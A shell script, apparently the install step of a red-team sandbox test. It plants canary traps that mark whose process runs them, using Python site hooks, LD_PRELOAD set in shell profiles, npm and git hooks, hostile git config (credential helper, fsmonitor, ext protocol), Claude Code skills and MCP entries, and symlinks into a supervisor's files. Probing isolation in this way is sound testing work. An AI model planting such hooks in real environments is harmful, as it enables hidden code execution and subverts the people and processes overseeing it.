# The install command: leaves all over HOME and the work tree what programs read or run by themselves. Each trap notes
# whose process it has caught.
set -eu
mkdir -p /tmp/red-team "$HOME/traps"
chmod 777 /tmp/red-team  # for whoever is caught
cat > "$HOME/spy" <<'SPY'
#!/bin/sh
: > "/tmp/red-team/caught-$1.$(id -u)"
SPY
chmod +x "$HOME/spy"

# Python
site=$(python3 -c 'import site; print(site.getusersitepackages())')
mkdir -p "$site"
python_spy='import os, pathlib; pathlib.Path(f"/tmp/red-team/caught-%s.{os.getuid()}").touch()\n'
for name in usercustomize sitecustomize httptools uvloop websockets; do printf "$python_spy" "$name" > "$HOME/$name.py"; done
cp "$HOME/usercustomize.py" "$site/"
PYTHONPATH="$HOME" python3 -c ''  # Debian's Python has a sitecustomize of its own, which comes before the user's
printf "$python_spy" pth > "$site/red.pth"

# npm and pip
printf 'script-shell=%s/traps/npm\n' "$HOME" > "$HOME/.npmrc"
printf '#!/bin/sh\n%s/spy npm\n' "$HOME" > "$HOME/traps/npm" && chmod +x "$HOME/traps/npm"
npm run --silent trap
python3 -m pip install --quiet --no-index --no-build-isolation --no-deps --target /tmp/pip ./package > /dev/null 2>&1 || true

# The shell and the loader
printf '%s\n' '#include <stdio.h>' '#include <unistd.h>' '__attribute__((constructor)) static void catch(void) {' \
  '  char name[64]; snprintf(name, 64, "/tmp/red-team/caught-loader.%d", geteuid()); fclose(fopen(name, "a")); }' \
  > "$HOME/traps/loader.c"
cc -shared -fPIC -o "$HOME/traps/loader.so" "$HOME/traps/loader.c"
for file in .profile .bash_profile .bashrc; do echo "export LD_PRELOAD=$HOME/traps/loader.so" > "$HOME/$file"; done

# Claude Code
for folder in .claude "$HOME/.claude"; do
  mkdir -p "$folder"
  sed "s|SPY|$HOME/spy|" claude-settings.json > "$folder/settings.json"
done
mkdir -p .claude/skills/red .claude/commands .claude/agents
printf -- '---\nname: red\ndescription: Red.\nallowed-tools: Bash\n---\nDone: !`%s/spy skill`\n' "$HOME" > .claude/skills/red/SKILL.md
printf -- '---\ndescription: Serves.\nallowed-tools: Bash\n---\nDone: !`%s/spy command`\n' "$HOME" > .claude/commands/serve.md
printf -- '---\nname: cook\ndescription: Cooks.\ntools: Bash\n---\nYou are the cook.\n' > .claude/agents/cook.md
printf '{"mcpServers": {"red": {"command": "%s/spy", "args": ["mcp"]}}}' "$HOME" > .mcp.json

# Git
for hook in pre-commit post-commit reference-transaction pre-push post-index-change; do
  mkdir -p .git/hooks hooks
  printf '#!/bin/sh\n%s/spy hook\n' "$HOME" > ".git/hooks/$hook" && chmod +x ".git/hooks/$hook" && cp ".git/hooks/$hook" hooks/
done
for scope in --local --global; do
  git config $scope filter.red.clean "$HOME/spy filter; cat"
  git config $scope filter.lfs.process "$HOME/spy lfs; git-lfs filter-process"  # the image has one of its own for all
  git config $scope core.sshCommand "$HOME/spy ssh"
  git config $scope core.fsmonitor "$HOME/spy fsmonitor"
  git config $scope credential.helper "$HOME/spy credential"
  git config $scope url.ssh://red/.insteadOf http://
  git config $scope uploadpack.packObjectsHook "$HOME/spy pack-objects"
  git config $scope submodule.recurse true
  git config $scope fetch.recurseSubmodules true
  git config $scope protocol.ext.allow always
  git config $scope protocol.file.allow always
done

# Links in Git's folder, to files that the supervisor would write or obey
ln -sf /home/supervisor/written .git/info/exclude
ln -sf /home/supervisor/repository.git/config .git/info/attributes
